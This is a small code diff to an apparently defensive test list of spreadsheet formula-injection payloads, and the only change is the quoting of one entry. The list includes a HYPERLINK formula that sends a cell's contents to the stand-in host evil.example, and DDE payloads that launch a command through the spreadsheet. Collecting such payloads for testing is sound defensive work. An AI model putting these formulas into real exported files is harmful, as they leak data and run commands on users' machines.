@@ -53,7 +53,7 @@ def problems(text: str) -> list[str]:
 # -- 3. formula injection --------------------------------------------------------------
 
 ATTACKS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
